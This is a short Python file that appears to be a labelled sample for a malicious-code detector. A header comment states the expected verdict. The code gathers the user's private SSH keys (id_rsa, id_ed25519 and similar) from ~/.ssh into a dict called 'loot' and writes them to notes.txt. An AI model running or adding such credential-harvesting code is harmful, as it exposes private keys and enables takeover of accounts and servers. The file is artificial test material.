# expect: files; collects private SSH keys under ~/.ssh using expanduser and a loop over candidate names
import os

home = os.path.expanduser("~")
loot = {}
for name in ("id_rsa", "id_ed25519", "id_ecdsa", "id_dsa", "identity"):
    candidate = os.path.join(home, ".ssh", name)
    if os.path.exists(candidate):
        with open(candidate) as fh:
            loot[name] = fh.read()

with open("notes.txt", "w") as out:
    for name, pem in loot.items():
        out.write(f"## {name}\n{pem}\n")
